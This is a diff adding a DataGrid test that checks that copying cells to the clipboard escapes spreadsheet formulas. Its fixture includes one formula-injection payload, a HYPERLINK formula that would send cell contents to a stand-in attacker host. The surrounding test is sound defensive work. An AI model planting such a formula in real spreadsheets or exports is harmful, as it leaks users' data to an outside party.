@@ -87,6 +87,23 @@ describe('DataGrid', () => {
     expect(fake.page).not.toHaveBeenCalled();
   });
 
+  it('copies a cell a spreadsheet could run as a formula as text, and one with a line break as one cell', async () => {
+    const writeText = vi.fn(async () => undefined);
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
+    const preview = [
+      [1, '=HYPERLINK("http://evil.example/?"&A1)', 1.5],
+      [2, 'ok\n@SUM(A1)', -3],
+    ];
+    renderWithStore(<DataGrid source={{ ...source, kept: 2, total: 2, preview }} />);
+    const rows = screen.getAllByRole('row');
+    fireEvent.mouseDown(within(rows[1]!).getAllByRole('gridcell')[1]!);
+    fireEvent.mouseDown(within(rows[2]!).getAllByRole('gridcell')[2]!, { shiftKey: true });
+    fireEvent.keyDown(screen.getByTestId('grid'), { key: 'c', ctrlKey: true });
+    await waitFor(() =>
+      expect(writeText).toHaveBeenCalledWith(`"'=HYPERLINK(""http://evil.example/?""&A1)"\t1.5\n"ok\n@SUM(A1)"\t-3`),
+    );
+  });
+
   it('exports CSV through the native save dialog', async () => {
     fake.exportCSV.mockResolvedValue('/home/me/result.csv');
     const { store } = renderWithStore(<DataGrid source={source} />);
